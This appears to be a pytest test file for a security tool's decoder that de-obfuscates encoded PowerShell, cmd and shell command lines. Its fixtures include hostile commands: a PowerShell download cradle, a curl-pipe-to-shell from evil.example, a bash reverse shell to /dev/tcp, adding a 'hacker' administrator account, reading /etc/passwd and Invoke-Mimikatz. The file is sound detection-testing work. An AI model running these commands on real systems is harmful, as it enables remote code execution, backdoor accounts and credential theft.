"""decoded.v1 on command lines: real encodings built in the test from known plaintexts.

The command lines follow Atomic Red Team / LOLBAS / Invoke-Obfuscation forms; every encoded input is
produced here with the standard library, so a test fails if a decoder stops reading a real encoding.
"""

from __future__ import annotations

import base64

import pytest

from distilsec.data.views import get_view
from distilsec.data.views.commands import command_findings
from distilsec.data.views.decoded import SEPARATOR, findings

decoded = get_view("decoded.v1")

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"
ENC = base64.b64encode(CRADLE.encode("utf-16-le")).decode()


def added(text: str) -> list[str]:
    """The lines decoded.v1 appends to ``text`` ([] when it returns the text unchanged)."""
    view = decoded(text)
    if view == text:
        return []
    assert view.startswith(text + SEPARATOR)
    return view[len(text) + len(SEPARATOR) :].split("\n")


@pytest.mark.parametrize(
    "flag",
    ["-EncodedCommand", "-encodedcommand", "-enc", "-en", "-e", "-ec", "/enc", "-ENCODEDC", "\u2013enc", "-encod"],
)
def test_powershell_encoded_command_any_prefix(flag: str) -> None:
    lines = added(f"powershell.exe -NoP -NonI -W Hidden {flag} {ENC}")
    assert lines[0] == f"powershell-encoded: {CRADLE}"
    # the script's URL is taken apart in the next layer
    assert "url: scheme=http host=x path=a ps1" in lines


def test_encoded_command_quoted_and_from_cmd() -> None:
    text = f"cmd.exe /c \"powershell -w hidden -enc '{ENC}'\""
    lines = added(text)
    assert f"powershell-encoded: {CRADLE}" in lines
    assert any(line.startswith("inner: powershell -w hidden -enc") for line in lines)


def test_dash_e_that_is_not_base64_text_adds_nothing() -> None:
    for text in ["grep -e something file.txt", "sed -e s/abc/def/g input", "perl -e print", "ls -la /tmp"]:
        assert decoded(text) == text


def test_from_base64_string_literal_utf16_and_utf8() -> None:
    utf8 = base64.b64encode(b"Start-Process calc.exe").decode()
    text = (
        f"$s=[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{ENC}'));"
        f' $t=[Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("{utf8}"))'
    )
    kinds = findings(text)
    assert ("frombase64", CRADLE) in kinds
    assert ("frombase64", "Start-Process calc.exe") in kinds


def test_from_base64_of_binary_is_skipped() -> None:
    blob = base64.b64encode(bytes(range(256))).decode()
    assert decoded(f"[Convert]::FromBase64String('{blob}')") == f"[Convert]::FromBase64String('{blob}')"


def test_concatenation_join_format_and_char_codes() -> None:
    text = (
        "& ('Inv'+'oke-Exp'+\"ression\") (('Ne','w-Ob','ject') -join '');"
        " &(\"{2}{0}{1}\" -f 'ke-Web','Request','Invo'); $c=[char[]](73,69,88) -join '';"
        " $d=[char]119+[char]104+[char]111"
    )
    kinds = findings(text)
    assert ("joined", "Invoke-Expression") in kinds
    assert ("joined", "New-Object") in kinds
    assert ("formatted", "Invoke-WebRequest") in kinds
    assert ("chars", "IEX") in kinds
    assert ("chars", "who") in kinds


def test_backticks_and_carets_removed() -> None:
    assert findings("powershell I`nv`oke-`Expression (N`e`w-Object Net.WebClient)") == [
        ("unticked", "powershell Invoke-Expression (New-Object Net.WebClient)")
    ]
    lines = added('c^m^d /c "p^o^w^e^r^s^h^e^l^l -c who^ami"')
    assert lines[0] == 'uncareted: cmd /c "powershell -c whoami"'
    assert "inner: powershell -c whoami" in lines and "inner: whoami" in lines


def test_bash_backtick_substitution_and_math_carets_are_left_alone() -> None:
    for text in ["cp -vi /boot/config-`uname -r` .config", "calc -p '4/3 * pi() * 5^3'", "nano\n^T^T"]:
        assert decoded(text) == text


def test_cmd_variable_substrings_are_left_alone() -> None:
    text = 'cmd.exe /c "echo %PATH:~0,5% & whoami"'
    assert added(text) == ["inner: echo %PATH:~0,5% & whoami"]


@pytest.mark.parametrize(
    ("text", "inner"),
    [
        ('cmd /c "whoami /all"', "whoami /all"),
        ("cmd.exe /k ping 127.0.0.1", "ping 127.0.0.1"),
        ('C:\\Windows\\System32\\cmd.exe /Q /c "net user"', "net user"),
        ('powershell.exe -ExecutionPolicy Bypass -Command "Get-Process lsass"', "Get-Process lsass"),
        ("pwsh -c Get-ChildItem", "Get-ChildItem"),
        ("bash -c 'id; uname -a'", "id; uname -a"),
        ('/bin/sh -c "curl -s http://evil.example/x.sh | sh"', "curl -s http://evil.example/x.sh | sh"),
        ("sudo sh -c whoami", "whoami"),
    ],
)
def test_nested_command_extraction(text: str, inner: str) -> None:
    assert ("inner", inner) in findings(text)


def test_shell_base64_pipe_and_here_string() -> None:
    payload = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
    b64 = base64.b64encode(payload.encode()).decode()
    assert ("base64", payload) in findings(f"echo {b64} | base64 -d | bash")
    assert ("base64", payload) in findings(f"bash -c 'base64 --decode <<< {b64} | sh'")
    assert ("base64", "id") in findings("echo aWQ= | base64 -d | sh")  # short: only in this form


def test_certutil_style_blobs_base64_and_hex() -> None:
    b64 = base64.b64encode(b"net user hacker P@ssw0rd /add").decode()
    hx = b"net localgroup administrators hacker /add".hex()
    text = f"echo {b64} > c:\\t\\a.b64 & certutil -decode c:\\t\\a.b64 a.bat & echo {hx} > h.hex"
    kinds = findings(text)
    assert ("base64", "net user hacker P@ssw0rd /add") in kinds
    assert ("hex", "net localgroup administrators hacker /add") in kinds
    # Atomic T1112: a REG_BINARY hex value
    assert ("hex", "redcanary") in findings("reg add HKCU\\Software\\X /v Y /t REG_BINARY /d 72656463616e617279 /f")


def test_hashes_guids_and_paths_are_not_decoded() -> None:
    for text in [
        "certutil -hashfile a.exe SHA256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "reg query HKLM\\SOFTWARE\\Classes\\CLSID\\{3A861D62-51E0-4F13-BB35-15700F2219A4}",
        "cat /usr/share/applications/org.gnome.Terminal.desktop",
        "ThisIsAVeryLongIdentifierName",
    ]:
        assert decoded(text) == text


def test_unix_hex_escapes() -> None:
    assert ("escapes", "cat /etc/passwd") in findings("$'\\x63\\x61\\x74\\x20/etc/passwd'")
    assert ("escapes", "/bin/sh") in findings("printf '\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68' > x")
    assert ("escapes", "id") in findings("$'\\151\\144'")
    # formatting escapes alone are not an encoding
    assert decoded("read -p $'Enter your age:\\n' age") == "read -p $'Enter your age:\\n' age"


def test_nested_layers_are_opened_up_to_the_depth_cap() -> None:
    def ps_enc(script: str) -> str:
        return f"powershell -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"

    layer3 = "Invoke-Mimikatz"
    layer2 = f"[Convert]::FromBase64String('{base64.b64encode(layer3.encode('utf-16-le')).decode()}')"
    layer1 = ps_enc(layer2)
    three = ps_enc(f"cmd /c {layer1}")  # three encodings: -enc, -enc, FromBase64String
    values = [v for _, v in findings(three)]
    assert f"cmd /c {layer1}" in values and layer2 in values
    assert layer3 in values
    assert [k for k, _ in findings(three)][:3] == ["powershell-encoded", "powershell-encoded", "frombase64"]

    four = ps_enc(three)  # one encoding more than the cap: the innermost is not opened
    values = [v for _, v in findings(four)]
    assert layer2 in values and layer3 not in values


def test_command_findings_fixed_order_and_doc_example() -> None:
    assert command_findings("powershell -enc SQBFAFgA") == [("powershell-encoded", "IEX")]
    text = f"powershell -enc {ENC}; echo {base64.b64encode(b'second payload').decode()} | base64 -d"
    assert [k for k, _ in command_findings(text)][:2] == ["powershell-encoded", "base64"]
